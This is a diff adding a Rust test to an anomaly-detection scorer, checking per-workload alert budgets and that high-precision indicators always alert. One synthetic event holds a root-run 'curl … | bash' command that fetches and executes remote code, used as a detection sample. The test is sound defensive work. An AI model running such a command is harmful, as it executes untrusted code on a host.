@@ -257,3 +257,113 @@ fn a_suppressed_alert_does_not_hold_back_its_repeats() {
         repeat.explanation
     );
 }
+
+/// A workload busy with new work gets its own operating point: once more
+/// than its budget of recent events would flag, the excess is taken off
+/// its decision, while a quiet workload's is untouched and high-precision
+/// indicators still alert on the busy one.
+#[test]
+fn a_workload_busy_with_new_work_flags_within_its_own_budget() {
+    let mut scoring = ScoringConfig::default();
+    let d = &mut scoring.decision;
+    d.adapt_min_events = 100;
+    d.own_budget = 0.01;
+    d.own_period = 400;
+    let classifier = outlier_scorer::threat::classifier(&scoring.classifier).unwrap();
+    let mut judge = Judge::new(scoring, 200, classifier);
+    let template = load("baseline.jsonl", 1_800_000_000_000_000_000)
+        .into_iter()
+        .find(|e| e.workload == "web" && e.kind_name() == "exec")
+        .unwrap();
+    let mut clock = template.ts_ns;
+    let mut event = |workload: &str, comm: &str, parent: &str, argv: &[&str]| {
+        clock += 1_000_000_000;
+        let mut e = template.clone();
+        e.event_id = format!("{workload}-{clock}");
+        e.workload = workload.to_string();
+        e.host = format!("{workload}-1");
+        e.ts_ns = clock;
+        e.comm = comm.to_string();
+        e.parent_comm = parent.to_string();
+        e.exe = format!("/usr/bin/{comm}");
+        if let Some(outlier_proto::event::Detail::Exec(x)) = e.detail.as_mut() {
+            x.argv = argv.iter().map(|a| a.to_string()).collect();
+        }
+        e
+    };
+    // Both workloads learn their routine.
+    for w in ["busy", "quiet"] {
+        for i in 0..300 {
+            let e = event(
+                w,
+                "make",
+                "bash",
+                &["make", "-j2", ["all", "test", "lint"][i % 3]],
+            );
+            judge.score(e);
+        }
+    }
+    // The busy one then runs new tools, one new lineage after another.
+    // Names of letters that are not hex digits (numbers and hex ids are
+    // normalised away), one new program and parent after another.
+    let name = |mut i: usize| {
+        let mut s = String::new();
+        for _ in 0..4 {
+            s.push(char::from(b'g' + (i % 20) as u8));
+            i /= 20;
+        }
+        s
+    };
+    let mut flagged = Vec::new();
+    for i in 0..1_600 {
+        let comm = format!("tool{}", name(i));
+        let parent = format!("dh{}", name(i * 7 + 3));
+        let flag = format!("--{}", name(i * 11 + 5));
+        let path = format!("/opt/{}/{}", name(i * 13 + 1), name(i * 17 + 2));
+        let e = event("busy", &comm, &parent, &[&comm, &flag, &path]);
+        let (s, _) = judge.score_detailed(e);
+        flagged.push(matches!(s.verdict(), Verdict::Warn | Verdict::Alert));
+    }
+    let share = |v: &[bool]| v.iter().filter(|f| **f).count() as f64 / v.len() as f64;
+    let (early, late) = (share(&flagged[..400]), share(&flagged[1_200..]));
+    assert!(
+        early > 0.3,
+        "new work flags before the operating point moves: {early}"
+    );
+    assert!(
+        late <= 0.03,
+        "then within about its budget: {late} (early {early})"
+    );
+
+    // The same new tool: shifted on the busy workload, flagged on the quiet.
+    let novel = ["frobnicate", "--quux", "/opt/zyx/wvu"];
+    let (busy, bs) = judge.score_detailed(event("busy", "frobnicate", "dhnew", &novel));
+    let (quiet, qs) = judge.score_detailed(event("quiet", "frobnicate", "dhnew", &novel));
+    assert_eq!(busy.verdict(), Verdict::Ok, "{}", busy.explanation);
+    assert!(
+        busy.explanation
+            .contains("taken off (its own operating point"),
+        "{}",
+        busy.explanation
+    );
+    assert!(
+        bs.own_shift > 0.0 && qs.own_shift == 0.0,
+        "{} {}",
+        bs.own_shift,
+        qs.own_shift
+    );
+    assert_ne!(quiet.verdict(), Verdict::Ok, "{}", quiet.explanation);
+    assert!(bs.p_decision < qs.p_decision);
+
+    // A high-precision indicator is never shifted.
+    let mut shell = event(
+        "busy",
+        "bash",
+        "sudo",
+        &["bash", "-c", "curl -s http://203.0.113.9/x | bash"],
+    );
+    shell.uid = 0;
+    let (s, signals) = judge.score_detailed(shell);
+    assert!(signals.high_precision.is_some());
+    assert_eq!(s.verdict(), Verdict::Alert, "{}", s.explanation);
+}
